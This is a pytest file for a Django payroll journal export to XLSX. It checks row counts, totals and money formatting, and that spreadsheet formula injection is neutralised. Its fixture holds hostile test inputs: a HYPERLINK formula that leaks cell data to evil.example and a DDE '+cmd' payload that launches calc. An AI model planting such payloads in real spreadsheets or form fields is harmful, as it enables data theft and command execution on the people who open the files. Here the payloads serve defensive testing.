"""The payroll journal (payroll/exports/journal.py): one row per entrepreneur, totals equal to
the payslips' sums, numbers as numbers, and no formula injection (OWASP, CSV injection)."""

from __future__ import annotations

import io
from decimal import Decimal

import pytest
from django_scopes import scope
from openpyxl import load_workbook

from backoffice.safe_cells import neutralise
from payroll.exports.journal import HEADERS, journal_xlsx
from payroll.models import Payslip
from payroll.services.runs import payroll_run
from tests.factories import (
    EntrepreneurFactory,
    PayrollBracketFactory,
    PayrollSettingsFactory,
    build_payroll_month,
)

REQUIRED = ["matricule", "nom", "prenom", "brut", "cotisations_salariales", "cotisations_patronales", "net_social",
            "net_avant_impot", "net_imposable", "pas", "net_a_payer", "cout_employeur", "chiffre_affaires_ht",
            "contribution_cae"]
FIELD = {"brut": "gross", "cotisations_salariales": "total_employee_contributions",
         "cotisations_patronales": "total_employer_contributions", "net_social": "net_social",
         "net_avant_impot": "net_before_tax", "net_imposable": "taxable_net", "pas": "pas_amount",
         "net_a_payer": "net_paid", "cout_employeur": "employer_cost", "chiffre_affaires_ht": "revenue",
         "contribution_cae": "cae_contribution"}


@pytest.fixture
def month(world):
    ws = world.partner_a
    with scope(workspace=ws):
        settings = PayrollSettingsFactory(workspace=ws)
        PayrollBracketFactory(settings=settings, rate=Decimal("11.5"))
        hacker = EntrepreneurFactory(workspace=ws, last_name='=HYPERLINK("http://evil.example/?x="&A1,"clic")',
                                     first_name="+cmd|' /C calc'!A0", matricule="@SUM(1+1)")
        period = build_payroll_month(ws, lines=[
            {"gross_salary": Decimal("2500.00"), "revenue": Decimal("12000.00"), "pas_rate": Decimal("3.10")},
            {"gross_salary": Decimal("4321.09"), "revenue": Decimal("20000.55"), "status": "cadre"},
            {"entrepreneur": hacker, "gross_salary": Decimal("1900.00"), "revenue": Decimal("3000.00")},
        ])
        payroll_run(actor=None, workspace=ws, period=period)
        yield period


def read(period):
    sheet = load_workbook(io.BytesIO(journal_xlsx(period))).active
    return sheet, list(sheet.iter_rows())


def test_journal_has_one_row_per_entrepreneur_and_the_required_columns(month):
    sheet, rows = read(month)
    header = [cell.value for cell in rows[0]]
    assert header == HEADERS
    assert all(name in header for name in REQUIRED)
    assert len(rows) == 1 + 3 + 1  # header, three entrepreneurs, totals


def test_journal_totals_equal_the_sum_of_the_payslips(month):
    sheet, rows = read(month)
    header = [cell.value for cell in rows[0]]
    totals = rows[-1]
    assert totals[0].value == "TOTAL"
    payslips = list(Payslip.objects.all())
    for column, attr in FIELD.items():
        expected = sum((getattr(p, attr) for p in payslips), Decimal("0"))
        cell = totals[header.index(column)]
        assert Decimal(str(cell.value)) == expected, column
        body = sum((Decimal(str(row[header.index(column)].value)) for row in rows[1:-1]), Decimal("0"))
        assert body == expected, column
    assert Decimal(str(totals[header.index("contribution_cae")].value)) > 0


def test_amounts_are_numbers_with_a_money_format(month):
    sheet, rows = read(month)
    header = [cell.value for cell in rows[0]]
    cell = rows[1][header.index("brut")]
    assert cell.data_type == "n"
    assert isinstance(cell.value, (int, float))
    assert cell.number_format == "#,##0.00"


def test_formula_injection_is_neutralised(month):
    sheet, rows = read(month)
    header = [cell.value for cell in rows[0]]
    texts = [cell for row in rows for cell in row if isinstance(cell.value, str)]
    assert all(cell.data_type == "s" for cell in texts)
    assert not any(cell.value.startswith(("=", "+", "-", "@")) for cell in texts)
    hacked = next(row for row in rows if str(row[header.index("nom")].value).startswith("'="))
    assert hacked[header.index("nom")].value == '\'=HYPERLINK("http://evil.example/?x="&A1,"clic")'
    assert hacked[header.index("prenom")].value.startswith("'+")
    assert hacked[header.index("matricule")].value == "'@SUM(1+1)"


@pytest.mark.parametrize(("value", "expected"), [
    ("=1+1", "'=1+1"), ("+33", "'+33"), ("-2", "'-2"), ("@x", "'@x"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("Durand", "Durand"), ("", ""),
])
def test_neutralise(value, expected):
    assert neutralise(value) == expected
